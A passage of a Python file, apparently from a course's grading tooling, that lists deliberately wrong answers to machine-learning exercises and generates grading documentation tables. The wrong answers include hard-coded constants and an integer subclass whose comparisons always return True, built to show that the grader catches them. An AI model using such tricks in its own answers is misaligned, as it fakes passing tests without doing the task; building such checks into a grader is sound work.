    "swapped-parts": Half("gives each part in the place of the other", "", """
        def lora_gradients(x, g, A, B, alpha):
            x, g = x.reshape(-1, x.shape[-1]), g.reshape(-1, g.shape[-1])
            return alpha / len(A) * g.T @ (x @ A.T), alpha / len(A) * B.T @ g.T @ x
        """, exercise="lora-gradients", before=""),
    "constant": _bytes("answers with what is right in one of the cases", "", """
        def training_bytes(n_total, n_trainable, optimizer):
            return {"weights": 4 * 22_713_216, "gradients": 4 * 22_713_216, "optimizer": 8 * 22_713_216}
        """),
    "constant-product": _products("answers with what is right for one trained layer", "", """
        def multiplications(tokens, d_in, d_out, trained):
            return 3 * 1024 * 384 * 1536
        """),
    "equal-numbers": _bytes("answers with numbers that are equal to any other", "", """
        class Any(int):
            __eq__ = __le__ = __ge__ = lambda self, other: True
            __hash__ = int.__hash__
        def training_bytes(n_total, n_trainable, optimizer):
            return dict.fromkeys(("weights", "gradients", "optimizer"), Any(7))
        """),
    "raises-in-one-case": _bytes("has one part right, and raises in a case of the other", "SGD|sgd|KeyError", """
        def training_bytes(n_total, n_trainable, optimizer):
            states = {"momentum": 1, "adamw": 2}[optimizer]
            return {"weights": 4 * n_total, "gradients": 4 * n_trainable, "optimizer": 4 * states * n_trainable}
        """),
    "one-optimizer": _bytes("has no part right, but each in some of the cases", "", """
        def training_bytes(n_total, n_trainable, optimizer):
            return {"weights": 4 * n_total * (optimizer != "sgd"), "gradients": 4 * n_trainable, "optimizer": 8 * n_trainable}
        """),
}  # fmt: skip


def table(of=None):
    rows = [f"| `{name}` | {a.tries} | {_said(a.told)} |" for name, a in (of or ATTACKS).items()]
    return "\n".join(["| attack | a wrong answer that … | what the teacher reads holds |", "| --- | --- | --- |", *rows])


def _said(told):
    return " or ".join(f"*{part}*" for part in told.split("|")) if told else "what is wrong"


def page():
    """docs/grading.md with its table brought up to date."""
    text = PAGE.read_text(encoding="utf-8")
    for name, of in (("attacks", ATTACKS), ("halves", HALVES)):
        table_ = f"<!-- {name} -->\n{len(of)} of them:\n\n{table(of)}\n<!-- end -->"
        text = re.sub(rf"<!-- {name} -->.*?<!-- end -->", lambda _, table_=table_: table_, text, flags=re.DOTALL)
    return re.sub(r"<!-- parts -->.*?<!-- /parts -->", lambda _: f"<!-- parts -->\n{parts()}\n<!-- /parts -->", text, flags=re.DOTALL)


def parts():
    """Which exercises have parts, and what each is worth."""
    rows = ["| exercise | points | right in part |", "| --- | --- | --- |"]
    for e in [e for e in all_exercises() if e.parts]:
        told = "; ".join(f"{_bare(p.says)} {p.points:g}{_with(p, before)}" for before, p in zip([None, *e.parts], e.parts))
        rows.append(f"| `{e.id}` ({e.lesson[:2]}) | {e.points} | {told} |")
    return "\n".join(rows)


def _bare(says):
    return re.sub(" (is|are)$", "", says)


def _with(part, before):
    """What a part is worth nothing without, as the table has it."""
    return f" (with {'the one before' if part.needs == before.says else _bare(part.needs)})" if part.needs else ""


if __name__ == "__main__":
    PAGE.write_text(page(), encoding="utf-8")
